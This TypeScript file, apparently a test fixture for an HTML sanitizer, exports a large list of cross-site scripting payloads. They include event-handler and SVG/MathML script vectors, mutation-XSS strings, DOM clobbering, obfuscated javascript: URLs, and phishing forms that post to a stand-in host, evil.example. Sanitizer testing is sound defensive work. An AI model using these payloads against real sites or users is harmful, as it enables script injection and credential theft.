const run = 'alert(1)';
const evil = 'https://evil.example/';
const img = `<img src=x onerror=${run}>`;

/** Elements that load something when they are inserted, by the attribute with the address. */
const loaders: readonly string[] = [
  ...['audio src', 'bgsound src', 'embed src', 'frame src', 'iframe src', 'image src', 'img src'],
  ...['img lowsrc', 'img dynsrc', 'input type=image src', 'isindex src', 'layer src', 'script src'],
  ...['source src', 'track src', 'video src', 'video poster', 'xml src', 'applet archive'],
  ...['applet code', 'object data', 'object codebase', 'object classid', 'link href rel=icon'],
  ...['link rel=prefetch href', 'link rel=preload as=image imagesrcset', 'link rel=manifest href'],
  ...[
    'link rel=modulepreload href',
    'link rel=stylesheet href',
    'body background',
    'table background',
  ],
  ...[
    'td background',
    'th background',
    'tr background',
    'p background',
    'html manifest',
    'head profile',
  ],
  ...[
    'img srcset',
    'source srcset',
    'img longdesc',
    'img usemap',
    'q cite',
    'ins cite',
    'del cite',
  ],
  ...['portal src', 'webview src', 'model src', 'script type=importmap src', 'input formaction'],
  ...['menuitem icon', 'command icon', 'html xmlns:x', 'svg xml:base', 'a ping', 'area ping href'],
].map((how) => `<${how}="${evil}a.png">x`);

/** Styles that load something or cover the page. */
const styles: readonly string[] = [
  ...['background:url(U)', 'background-image:image-set("U" 1x)', 'list-style-image:url(U)'],
  ...[
    'cursor:url(U),auto',
    'border-image:url(U)',
    'mask:url(U)',
    'filter:url(U#f)',
    'clip-path:url(U#c)',
  ],
  ...['content:url(U)', 'shape-outside:url(U)', 'offset-path:url(U#p)', 'behavior:url(U)'],
  ...['-moz-binding:url(U)', 'width:expression(alert(1))', 'background:u\\72l(U)', '--x:url(U)'],
  ...[
    'position:fixed;top:0;left:0;width:100vw;height:100vh',
    'animation:x 1s',
    'font-family:"\\0/*',
  ],
].flatMap((style) => {
  const css = style.replace('U', evil);
  return [`<p style='${css}'>x</p>`, `<style>*{${css}}</style>`];
});

/** Markup that can run a script without a click. */
const handlers: readonly string[] = [
  ...['body onload', 'body onpageshow', 'body onhashchange', 'body onmessage', 'body onresize'],
  ...[
    'svg onload',
    'svg onbegin',
    'img onload src=data:,',
    'image onerror src',
    'video onerror src=x',
  ],
  ...[
    'audio onloadstart src=x',
    'video oncanplay',
    'input autofocus onfocus',
    'select autofocus onfocus',
  ],
  ...[
    'keygen autofocus onfocus',
    'details ontoggle open',
    'dialog open oncancel',
    'marquee onstart',
  ],
  ...['object onerror data=x', 'style onload', 'link rel=stylesheet onload href=data:text/css,'],
  ...[
    'p onanimationstart style=animation:x',
    'p ontransitionend',
    'p onscrollsnapchange',
    'p onwheel',
  ],
  ...['p onpointerrawupdate', 'p oncontentvisibilityautostatechange style=content-visibility:auto'],
  ...[
    'a onfocus tabindex=1 autofocus',
    'xss onfocus tabindex=1 autofocus',
    'p onsecuritypolicyviolation',
  ],
  ...[
    'p onwebkitanimationend',
    'p onbeforematch hidden=until-found',
    'button oncommand command=--x',
  ],
].map((how) => `<${how}="${run}">x`);

const svg: readonly string[] = [
  '<svg><script href="data:,alert(1)"></script></svg>',
  '<svg><script xlink:href="https://evil.example/x.js"></script></svg>',
  '<svg><script>&#97;lert(1)</script></svg>',
  '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><set attributeName="href" to="https://evil.example/"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><animateTransform onrepeat=alert(1) attributeName=transform dur=1s repeatCount=2>',
  '<svg><discard onbegin=alert(1)>',
  '<svg><feImage href="https://evil.example/a.png"/></svg>',
  '<svg><filter id=f><feImage xlink:href="https://evil.example/a.png"/></filter></svg>',
  '<svg><pattern><image href="https://evil.example/a.png"/></pattern></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><use xlink:href="#a"/><g id=a onclick=alert(1)>x</g></svg>',
  '<svg><style>@import "https://evil.example/a.css"</style></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><desc><iframe src=javascript:alert(1)></iframe></desc></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><foreignObject><math><mi><script>alert(1)</script></mi></math></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>',
  '<svg><handler type="application/javascript">alert(1)</handler></svg>',
  '<svg><tref xlink:href="https://evil.example/#x"/></svg>',
  '<svg><mpath href="https://evil.example/#p"/></svg>',
  '<svg><linearGradient href="https://evil.example/#g"/></svg>',
  '<svg><cursor xlink:href="https://evil.example/c.cur"/></svg>',
];

const math: readonly string[] = [
  '<math href="javascript:alert(1)">x</math>',
  '<math><mrow href="javascript:alert(1)"><mi>x</mi></mrow></math>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mglyph src="https://evil.example/a.png"/></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><iframe src=javascript:alert(1)></annotation-xml></math>',
  '<math><semantics><annotation encoding="x"><script>alert(1)</script></annotation></semantics></math>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<math><mi><svg><script>alert(1)</script></svg></mi></math>',
  '<math><ms><style></ms><img src=x onerror=alert(1)></style></math>',
  '<math><mstyle background="url(https://evil.example)"><mi>x</mi></mstyle></math>',
  '<math><mpadded onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</mpadded></math>',
  '<math><menclose notation="longdiv" style="background:url(https://evil.example)">x</menclose></math>',
];

/** Mutation attacks: markup that is harmless when parsed once, and not when serialised and parsed again. */
const mutants: readonly string[] = [
  `<svg></p><style><g title="</style>${img}">`,
  `<svg></br><style><g title="</style>${img}">`,
  `<math></p><style><!--</style>${img}--></style>`,
  `<math><mtext><table><mglyph><style><math>${img}</math></style>`,
  `<form><math><mtext></form><form><mglyph><style></math>${img}`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${img}"></style></h1>`,
  `<svg><desc><noscript></svg></noscript>${img}</desc></svg>`,
  `<noscript><style></noscript>${img}</style>`,
  `<select><template></select><style></template>${img}</style>`,
  `<select><style></select>${img}</style></select>`,
  `<option><style></option></select><b>${img}</style></option>`,
  `<table><style><table></style>${img}</table>`,
  `<table><colgroup><svg><style></colgroup>${img}</style></svg></table>`,
  `<template><s><template><s>${img}</s></template></s></template>`,
  `<frameset><frame src="${evil}">${img}</frameset>`,
  `<plaintext>${img}`,
  `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
  `<xmp>${img}</xmp>`,
  `<noframes><p title="</noframes>${img}"></noframes>`,
  `<iframe><p title="</iframe>${img}"></iframe>`,
  `<style><p title="</style>${img}"></style>`,
  `<script><!--<script></script>${img}--></script>`,
  `<textarea></textarea ><!--</textarea>${img}-->`,
  `<a href="&#1;javascript:${run}">x</a>`,
  `<a title="\`${img}\`">x</a>`,
  `<p title="&lt;/p&gt;${img.replaceAll('<', '&lt;')}">x</p>`,
  `<b><p><i></b>${img}</i></p>`,
  `<a><a><a href=javascript:${run}>x</a></a></a>`,
  `<nobr><nobr><nobr><svg><nobr>${img}`,
  `<button><button><form><form id=x><input form=x formaction=javascript:${run}>`,
  `<h1><h2><h3></h1>${img}</h2></h3>`,
  `<ruby><rtc><rp><svg><rt>${img}</ruby>`,
  `<p/><div/>${img}</p>`,
  `<svg><![CDATA[><image xlink:href="]]>${img}//"></svg>`,
  `<math><![CDATA[</math>${img}]]></math>`,
  `<!DOCTYPE html [<!ENTITY x "${img}">]>&x;`,
  `<!--[if IE]>${img}<![endif]-->`,
  `<!----!>${img}-->`,
  `<!-->${img}-->`,
  `<?xml version="1.0"?>${img}`,
  `<? ${img} ?>`,
  `</ ${img}>`,
  `<%${img}%>`,
  `<a<b>${img}`,
];

/** DOM clobbering, and custom elements by `is`. */
const clobbering: readonly string[] = [
  ...[
    'acquireVsCodeApi',
    'postMessage',
    'document',
    'window',
    'body',
    'cookie',
    'location',
    'parent',
  ],
  ...[
    'innerHTML',
    'textContent',
    'removeChild',
    'attributes',
    'childNodes',
    'ownerDocument',
    '__proto__',
  ],
].flatMap((name) => [
  `<a id="${name}" name="${name}" href="https://ok.example">x</a>`,
  `<form id="${name}"><input name="${name}"></form>`,
]);

/** Spellings of addresses that a browser follows but a naive check does not recognise. */
const addresses: readonly string[] = [
  ...[
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java\tscript:alert(1)',
    'java\rscript:alert(1)',
  ],
  ...['\u0000javascript:alert(1)', '\u001fjavascript:alert(1)', '\u00a0javascript:alert(1)'],
  ...[
    '\ufeffjavascript:alert(1)',
    'javascript\t:alert(1)',
    'javascript&#58;alert(1)',
    'jav&#x0A;ascript:alert(1)',
  ],
  ...[
    'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/',
    'javascript://x%0aalert(1)',
  ],
  ...[
    'javascript:\\u0061lert(1)',
    'livescript:alert(1)',
    'mocha:alert(1)',
    'vbscript:x',
    'jscript:x',
  ],
  ...[
    'data:,x',
    'data:text/html;base64,PHNjcmlwdD4=',
    'DATA:text/html,x',
    'data:application/xhtml+xml,x',
  ],
  ...[
    'view-source:https://evil.example',
    'feed:javascript:alert(1)',
    'jar:https://evil.example!/x',
    'about:blank',
  ],
  ...[
    'intent://evil#Intent;end',
    'ms-settings:',
    'search-ms:query=x&crumb=location:\\\\evil',
    'smb://evil/x',
  ],
  ...[
    'vscode-insiders://x',
    'vscode-file://vscode-app/etc/passwd',
    'vscode-webview-resource://x',
    'command:x?%5B%5D',
  ],
  ...[
    'https:/\\evil.example',
    'https:evil.example',
    'http:evil',
    '///evil.example',
    '\\\\evil.example\\x',
    '/\\evil.example',
  ],
  ...[
    'httpx://evil.example',
    'hhttps://x',
    ' https://ok.example',
    'https\u200b://evil.example',
    'ｈttps://evil.example',
  ],
];

const links: readonly string[] = addresses.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<a href='${address}' xlink:href="${address}">x</a>`,
]);

/** Markup that tricks the reader: forms, overlays and the like. */
const forms: readonly string[] = [
  `<form action="${evil}" method=post><input name=key placeholder="Your key"><input type=submit></form>`,
  `<input form=x type=password autocomplete=current-password>`,
  `<button form=x formaction="${evil}" formmethod=post>Continue</button>`,
  `<isindex action="${evil}" prompt="Key">`,
  `<textarea form=x name=y dirname=z>x</textarea>`,
  `<select form=x onchange=${run}><option value=1>x</select>`,
  `<label for=search onclick=${run}>x</label>`,
  `<output form=x onforminput=${run}>x</output>`,
  `<fieldset form=x><legend>x</legend><input></fieldset>`,
  `<keygen form=x name=k challenge=c>`,
  `<p contenteditable onpaste=${run}>x</p>`,
  `<p draggable=true ondragstart=${run}>x</p>`,
  `<button popovertarget=p popovertargetaction=show>x</button><p id=p popover>x</p>`,
  `<dialog open><form method=dialog action="${evil}"><button>OK</button></form></dialog>`,
  `<a href="${evil}" target=_blank rel=opener download=x>x</a>`,
  `<area shape=default href="${evil}"><map name=m><area href="${evil}"></map>`,
  `<meta http-equiv="set-cookie" content="a=b"><meta http-equiv=Content-Security-Policy content="">`,
  `<base target=_top href="${evil}">`,
];

/** HTML of all known classes of attack, without duplicates. */
export const hostileClasses: readonly string[] = [
  ...new Set([
    ...[...loaders, ...styles, ...handlers, ...svg, ...math, ...mutants],
    ...[...clobbering, ...links, ...forms],
  ]),
];
